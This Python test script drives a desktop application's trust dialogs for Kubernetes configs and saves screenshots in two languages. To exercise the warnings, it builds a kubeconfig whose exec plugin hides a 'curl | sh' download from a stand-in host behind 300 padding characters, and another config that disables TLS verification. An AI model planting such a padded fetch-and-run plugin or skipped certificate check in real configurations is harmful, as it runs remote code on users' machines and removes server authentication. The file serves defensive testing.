#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Pictures of what the window asks before it trusts: a kubeconfig that came from elsewhere, a server that would not be checked, and
the badge of the connection while it is not.

usage: scripts/with-display tests/cluster/pictures/trust_pictures.py STATE_DIR CARDINAL FOLDER. Starts a cluster in STATE_DIR, opens the
window in both languages, writes FOLDER/trust-WHAT-LANGUAGE.png, and ends the cluster.
"""

import json
import pathlib
import re
import subprocess
import tempfile
import time

from rights_pictures import LOCALES, SETTLE_SECONDS, on_a_cluster, picture

HIDDEN_PART = "curl --silent https://collector.example/install.sh | sh"


def server_of(state):
    return re.search(r"server: *['\"]?(https://[^'\"\s]+)", (state / "admin.kubeconfig").read_text(encoding="utf-8")).group(1)


def kubeconfig(path, cluster, user):
    path.write_text(json.dumps({
        "apiVersion": "v1", "kind": "Config", "current-context": "gpu-lab",
        "clusters": [{"name": "lab", "cluster": cluster}], "users": [{"name": "me", "user": user}],
        "contexts": [{"name": "gpu-lab", "context": {"cluster": "lab", "user": "me"}}]}), encoding="utf-8")
    path.chmod(0o600)
    return path


def foreign(folder, server):
    """A plugin whose last words matter, and a proxy."""
    arguments = ["-c", "printf '%s' " + "a" * 300 + "; " + HIDDEN_PART]
    plugin = {"apiVersion": "client.authentication.k8s.io/v1", "command": "bash", "args": arguments, "interactiveMode": "Never"}
    return kubeconfig(folder / "foreign.json", {"server": server, "proxy-url": "http://127.0.0.1:9"}, {"exec": plugin})


def unchecked(state):
    """The administrator's, but for the certificate authority."""
    text = (state / "admin.kubeconfig").read_text(encoding="utf-8")
    changed, number = re.subn(r"certificate-authority(-data)?: .*", "insecure-skip-tls-verify: true", text)
    assert number == 1, "one cluster stands in the kubeconfig"
    path = state / "unchecked.kubeconfig"
    path.touch(mode=0o600)
    path.write_text(changed, encoding="utf-8")
    return path


def allow():
    """Presses the last button of the question, as a person would."""
    question = subprocess.run(["xdotool", "search", "--onlyvisible", "--name", "[?？]$"], capture_output=True, text=True, check=True).stdout.split()[-1]
    shell = subprocess.run(["xdotool", "getwindowgeometry", "--shell", question], capture_output=True, text=True, check=True).stdout
    place = dict(line.split("=") for line in shell.splitlines())
    at = str(int(place["WIDTH"]) - 60), str(int(place["HEIGHT"]) - 38)
    subprocess.run(["xdotool", "mousemove", "--window", question, *at, "click", "1"], check=True)
    time.sleep(SETTLE_SECONDS)


def take_pictures(state, cardinal, folder):
    with tempfile.TemporaryDirectory(prefix="cardinal-trust-") as elsewhere:
        shots = (("foreign", foreign(pathlib.Path(elsewhere), server_of(state)), lambda: None),
                 ("unchecked", unchecked(state), lambda: None), ("badge", unchecked(state), allow))
        for name, config, before in shots:
            for language, locale in LOCALES:
                picture(cardinal, config, locale, folder / f"trust-{name}-{language}.png", before)


if __name__ == "__main__":
    on_a_cluster(take_pictures)
